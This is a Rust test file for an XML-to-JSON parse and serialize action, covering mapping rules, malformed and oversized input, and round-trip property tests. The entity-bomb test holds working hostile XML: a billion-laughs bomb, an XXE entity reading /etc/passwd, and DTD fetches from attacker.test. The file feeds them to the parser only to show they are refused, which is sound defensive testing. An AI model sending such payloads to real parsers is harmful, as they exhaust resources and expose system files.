//! XML actions (no provider): the XML ↔ JSON mapping both ways, what hostile documents get
//! (entity bombs, external entities, depth, size, node count), and the round trip as a property.

use futures_util::FutureExt as _;
use proptest::prelude::*;
use serde_json::{Map, Value, json};

use super::harness::Harness;

/// Runs an XML action to its end: they await nothing, so no runtime is needed (the property
/// tests below run thousands of them).
fn run(h: &Harness, action: &str, params: Value) -> Result<Value, String> {
    h.run("XML", action, params, None, None)
        .now_or_never()
        .unwrap_or_else(|| panic!("XML {action} waited on something"))
        .map_err(|e| e.message)
}

fn parse(h: &Harness, xml: &str) -> Result<Value, String> {
    run(h, "PARSE_XML", json!({ "xml": xml })).map(|out| out["object"].clone())
}

fn parsed(h: &Harness, xml: &str) -> Value {
    parse(h, xml).unwrap_or_else(|e| panic!("{e}"))
}

fn serialize(h: &Harness, object: Value) -> Result<String, String> {
    run(h, "SERIALIZE_XML", json!({ "object": object }))
        .map(|out| out["xml"].as_str().unwrap_or_else(|| panic!("no xml in {out}")).to_owned())
}

fn serialized(h: &Harness, object: Value) -> String {
    serialize(h, object).unwrap_or_else(|e| panic!("{e}"))
}

fn refusal(h: &Harness, xml: &str) -> String {
    match parse(h, xml) {
        Ok(v) => panic!("parsed: {v}"),
        Err(e) => e,
    }
}

#[test]
fn parse_maps_elements_attributes_text_and_repeats() {
    let h = Harness::new();
    let out = run(
        &h,
        "PARSE_XML",
        json!({"xml": r#"<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment -->
<order id="7" xmlns:x="urn:x">
  <item sku="a1">Tea</item>
  <item sku="b2"/>
  <note>  two  spaces  </note>
  <empty/>
  <x:tag>ns &amp; &lt;entities&gt; &#233;&#x4E2D;</x:tag>
  <qty>42</qty>
  <![CDATA[raw <text>]]>
</order>"#}),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        out,
        json!({"object": {"order": {
            "@id": "7",
            "@xmlns:x": "urn:x",
            "#text": "\n  raw <text>\n",
            "item": [{"@sku": "a1", "#text": "Tea"}, {"@sku": "b2"}],
            "note": "  two  spaces  ",
            "empty": "",
            "x:tag": "ns & <entities> é中",
            "qty": "42"
        }}})
    );
}

#[test]
fn parse_keeps_text_exactly_in_text_only_elements() {
    let h = Harness::new();
    assert_eq!(parsed(&h, "<a>   </a>"), json!({"a": "   "}));
    assert_eq!(parsed(&h, "<a>x<!--c-->y<?pi data?>z</a>"), json!({"a": "xyz"}));
    // Line ends are normalized as XML says; a reference keeps a carriage return.
    assert_eq!(parsed(&h, "<a>1\r\n2\r3&#xD;</a>"), json!({"a": "1\n2\n3\r"}));
    // In attributes a raw tab or newline reads as a space, a reference as itself.
    assert_eq!(
        parsed(&h, "<a b=\"1\t2\n3&#xA;4\" c='&quot;'/>"),
        json!({"a": {"@b": "1 2 3\n4", "@c": "\""}})
    );
    // Text beside children: indentation dropped, the rest joined.
    assert_eq!(
        parsed(&h, "<a>\n  one\n  <b/>\n  <c>2</c> two\n</a>"),
        json!({"a": {"#text": "\n  one\n   two\n", "b": "", "c": "2"}})
    );
}

#[test]
fn serialize_writes_the_inverse_mapping() {
    let h = Harness::new();
    let xml = serialized(
        &h,
        json!({"order": {
            "@id": 7,
            "@paid": true,
            "#text": "a<b & c>d",
            "item": [{"@sku": "a\"1\n", "#text": "Tea"}, "Milk", null],
            "x:tag": "",
            "note": "line\r\nend"
        }}),
    );
    assert_eq!(
        xml,
        "<order id=\"7\" paid=\"true\">a&lt;b &amp; c&gt;d\
         <item sku=\"a&quot;1&#xA;\">Tea</item><item>Milk</item><item/>\
         <note>line&#xD;\nend</note><x:tag/></order>"
    );
    // Not one element: wrapped, as common XML builders do.
    assert_eq!(
        serialized(&h, json!({"a": 1, "b": [2, 3]})),
        "<root><a>1</a><b>2</b><b>3</b></root>"
    );
    assert_eq!(serialized(&h, json!({"a": [1, 2]})), "<root><a>1</a><a>2</a></root>");
    assert_eq!(serialized(&h, json!({"@v": "1"})), "<root v=\"1\"/>");
    assert_eq!(serialized(&h, json!({})), "<root/>");
    // JSON text is read first.
    assert_eq!(serialized(&h, json!("{\"a\": {\"b\": \"c\"}}")), "<a><b>c</b></a>");
}

#[test]
fn serialize_refuses_what_xml_cannot_say() {
    let h = Harness::new();
    let cases = [
        (json!({"1st": "x"}), "`1st` is not an element name XML allows"),
        (json!({"a b": "x"}), "`a b` is not an element name XML allows"),
        (json!({"a": {"<b>": "x"}}), "`<b>` is not an element name XML allows"),
        (json!({"a": {"@x y": "1"}}), "`x y` is not an attribute name XML allows"),
        (json!({"a": {"#comment": "x"}}), "`#comment` is not an element name XML allows"),
        (json!({"a": {"b": [[1, 2]]}}), "`b` is an array inside an array"),
        (json!({"a": {"@x": {"y": 1}}}), "attribute `@x` must be text, a number or a boolean"),
        (json!({"a": {"#text": [1]}}), "`#text` of `a` must be text, a number or a boolean"),
        (json!({"a": "bell\u{7}"}), "the text of `a` holds U+0007"),
        (json!({"a": {"@x": "\u{FFFF}"}}), "attribute `@x` holds U+FFFF"),
        (json!("[1, 2]"), "param `object` must be an object, or JSON text of one"),
        (json!("<a/>"), "param `object` is text that is not JSON"),
        (json!(42), "param `object` must be an object, or JSON text of one"),
        (Value::Null, "param `object` is missing"),
    ];
    for (object, expected) in cases {
        let message = serialize(&h, object.clone()).err().unwrap_or_else(|| panic!("{object}"));
        assert!(message.contains(expected), "{object}: {message}");
    }
}

#[test]
fn serialize_bounds_depth_size_and_nodes() {
    let h = Harness::new();
    let mut deep = json!("x");
    for _ in 0..32 {
        deep = json!({ "d": deep });
    }
    assert!(serialize(&h, deep.clone()).is_ok());
    let message = serialize(&h, json!({ "d": deep })).err().unwrap_or_default();
    assert!(message.contains("nests deeper than 32 elements"), "{message}");

    let big = json!({"a": "&".repeat(300_000)});
    let message = serialize(&h, big).err().unwrap_or_default();
    assert!(message.contains("larger than 1048576 bytes"), "{message}");

    let many: Vec<Value> = (0..100_001).map(|_| Value::Null).collect();
    let message = serialize(&h, json!({"a": {"b": many}})).err().unwrap_or_default();
    assert!(message.contains("more than 100000 elements and attributes"), "{message}");
}

#[test]
fn parse_refuses_entity_bombs_and_external_entities() {
    let h = Harness::new();
    let laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"#;
    let message = refusal(&h, laughs);
    assert!(message.contains("DOCTYPE with declarations"), "{message}");

    let external = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    assert!(refusal(&h, external).contains("DOCTYPE with declarations"));
    let parameter =
        r#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]><foo/>"#;
    assert!(refusal(&h, parameter).contains("DOCTYPE with declarations"));

    // An external DTD is never fetched, so its entities are as undefined as any other.
    let message =
        refusal(&h, r#"<!DOCTYPE foo SYSTEM "http://attacker.test/x.dtd"><foo>&xxe;</foo>"#);
    assert!(message.contains("`&xxe;` is not one of the five predefined entities"), "{message}");
    assert_eq!(
        parsed(&h, r#"<!DOCTYPE note SYSTEM "note.dtd"><note>hi</note>"#),
        json!({"note": "hi"})
    );
    // Nor in attributes.
    let message = refusal(&h, "<a b=\"&nbsp;\"/>");
    assert!(message.contains("attribute `b` of <a>"), "{message}");
}

#[test]
fn parse_refuses_malformed_and_oversized_documents() {
    let h = Harness::new();
    let cases = [
        ("", "no root element"),
        ("just text", "text outside the root element"),
        ("<a>", "ends inside <a>"),
        ("<a></b>", "not well-formed"),
        ("<a/><b/>", "<b> is a second root element"),
        ("<a/>tail", "text outside the root element"),
        ("<a x='1' x='2'/>", "in <a>"),
        ("<a>&#0;</a>", "`&#0;` is not a character reference"),
        ("<a>&#1;</a>", "`&#1;` is U+0001"),
        ("<a>&#xD800;</a>", "`&#xD800;` is not a character reference"),
        ("<a>bell\u{7}</a>", "U+0007, which XML does not allow"),
        ("<a>& alone</a>", "not well-formed"),
        ("<1a/>", "is not an element name XML allows"),
        ("<a:b:c/>", "`a:b:c` is not an element name XML allows"),
        ("<a><!DOCTYPE x></a>", "DOCTYPE inside the document"),
    ];
    for (xml, expected) in cases {
        let message = refusal(&h, xml);
        assert!(message.starts_with("param `xml` is refused: "), "{xml}: {message}");
        assert!(message.contains(expected), "{xml}: {message}");
    }

    let deep = |n: usize| format!("{}{}", "<d>".repeat(n), "</d>".repeat(n));
    assert!(parse(&h, &deep(32)).is_ok());
    assert!(refusal(&h, &deep(33)).contains("nest deeper than 32 levels"));

    let big = format!("<a>{}</a>", "x".repeat(1024 * 1024));
    assert!(refusal(&h, &big).contains("larger than 1048576 bytes"));

    let many = format!("<a>{}</a>", "<b/>".repeat(100_000));
    assert!(refusal(&h, &many).contains("more than 100000 elements and attributes"));
    let attributes: String = (0..100_000).map(|i| format!(" a{i}=''")).collect();
    assert!(refusal(&h, &format!("<a{attributes}/>")).contains("more than 100000"));

    let message = run(&h, "PARSE_XML", json!({"xml": 5})).err().unwrap_or_default();
    assert_eq!(message, "param `xml` must be a string");
}

fn xml_char() -> impl Strategy<Value = char> {
    prop_oneof![
        4 => proptest::char::range('a', 'z'),
        2 => prop_oneof![
            Just('&'), Just('<'), Just('>'), Just('"'), Just('\''), Just(' '), Just('\t'),
            Just('\n'), Just('\r'), Just(']'), Just(';'), Just('#')
        ],
        1 => any::<char>().prop_filter("a character XML allows", |c| {
            matches!(*c, '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
        }),
    ]
}

fn text() -> impl Strategy<Value = String> {
    proptest::collection::vec(xml_char(), 0..12).prop_map(String::from_iter)
}

fn name() -> impl Strategy<Value = String> {
    ("(p:)?[A-Za-z_][A-Za-z0-9_.-]{0,6}", any::<bool>())
        .prop_map(|(n, accent)| if accent { format!("{n}é") } else { n })
}

fn is_space(s: &str) -> bool {
    s.chars().all(|c| matches!(c, ' ' | '\t' | '\n' | '\r'))
}

/// An element's value in the shapes `PARSE_XML` produces: text, or an object with at least
/// one attribute or child, `#text` only when it would be read back, arrays of two or more.
fn element() -> impl Strategy<Value = Value> {
    let leaf = text().prop_map(Value::String);
    leaf.prop_recursive(4, 48, 6, |inner| {
        let child = prop_oneof![
            inner.clone(),
            proptest::collection::vec(inner, 2..4).prop_map(Value::Array),
        ];
        (
            proptest::collection::btree_map(name(), text(), 0..3),
            text(),
            proptest::collection::btree_map(name(), child, 0..4),
        )
            .prop_map(|(attributes, body, children)| {
                if attributes.is_empty() && children.is_empty() {
                    return Value::String(body);
                }
                let mut object = Map::new();
                let keep_text = !body.is_empty() && (children.is_empty() || !is_space(&body));
                if keep_text {
                    object.insert("#text".to_owned(), Value::String(body));
                }
                for (k, v) in attributes {
                    object.insert(format!("@{k}"), Value::String(v));
                }
                object.extend(children);
                Value::Object(object)
            })
    })
}

/// Text inside an element: characters, references (some undefined), CDATA, comments, PIs.
fn content_piece() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => "[a-z \n\t>\"']{0,5}",
        1 => "&(amp|lt|gt|quot|apos|#[0-9]{1,6}|#x[0-9a-fA-F]{1,5}|[a-z]{1,4});",
        1 => "<!\\[CDATA\\[[a-z<&\\] ]{0,5}\\]\\]>",
        1 => "<!--[a-z ]{0,4}-->",
        1 => "<\\?[a-z]{1,3}( [a-z]{0,3})?\\?>",
        1 => "\\PC{0,2}",
    ]
}

fn attributes() -> impl Strategy<Value = String> {
    proptest::collection::vec(
        ("[a-c](:[a-c])?", "([a-z \t\n]|&(amp|lt|quot|#[0-9]{1,3}|#xA|[a-z]{1,3});){0,4}"),
        0..3,
    )
    .prop_map(|pairs| pairs.iter().map(|(k, v)| format!(" {k}=\"{v}\"")).collect())
}

/// Documents that are mostly well-formed, built from a tree, with names few enough that
/// siblings repeat; some then cut or spliced.
fn document() -> impl Strategy<Value = String> {
    let leaf = ("[a-c](:[a-c])?", attributes(), proptest::collection::vec(content_piece(), 0..3))
        .prop_map(|(name, attrs, text)| match text.is_empty() {
            true => format!("<{name}{attrs}/>"),
            false => format!("<{name}{attrs}>{}</{name}>", text.concat()),
        });
    let element = leaf.prop_recursive(5, 64, 6, |inner| {
        (
            "[a-c](:[a-c])?",
            attributes(),
            proptest::collection::vec(prop_oneof![inner, content_piece()], 0..6),
        )
            .prop_map(|(name, attrs, content)| {
                format!("<{name}{attrs}>{}</{name}>", content.concat())
            })
    });
    let whole = (
        prop_oneof![Just(""), Just("<?xml version=\"1.0\"?>\n")],
        prop_oneof![
            4 => Just(""),
            1 => Just("<!DOCTYPE a SYSTEM \"a.dtd\">"),
            1 => Just("<!DOCTYPE a [<!ENTITY e \"x\">]>"),
            1 => Just("<!-- c -->"),
        ],
        element,
        prop_oneof![Just(""), Just("\n"), Just("<!-- end -->")],
    )
        .prop_map(|(decl, prolog, root, tail)| format!("{decl}{prolog}{root}{tail}"));
    prop_oneof![
        3 => whole.clone(),
        1 => (whole, any::<prop::sample::Index>(), content_piece()).prop_map(|(d, at, piece)| {
            let mut at = at.index(d.len() + 1);
            while !d.is_char_boundary(at) {
                at -= 1;
            }
            format!("{}{piece}{}", &d[..at], &d[at..])
        }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    /// parse(serialize(x)) == x over the mapping's value space.
    #[test]
    fn serialize_then_parse_gives_the_object_back(root in name(), value in element()) {
        let h = Harness::new();
        let object = json!({ root: value });
        let xml = serialize(&h, object.clone()).map_err(TestCaseError::fail)?;
        prop_assert_eq!(parse(&h, &xml).map_err(TestCaseError::fail)?, object, "{}", xml);
    }

    /// Any XML-ish text is read or refused, never a panic; what is read writes back to XML
    /// that reads the same.
    #[test]
    fn arbitrary_documents_are_read_or_refused(text in document()) {
        let h = Harness::new();
        if let Ok(object) = parse(&h, &text) {
            let xml = serialize(&h, object.clone()).map_err(TestCaseError::fail)?;
            prop_assert_eq!(parse(&h, &xml).map_err(TestCaseError::fail)?, object, "{}", xml);
        }
    }
}
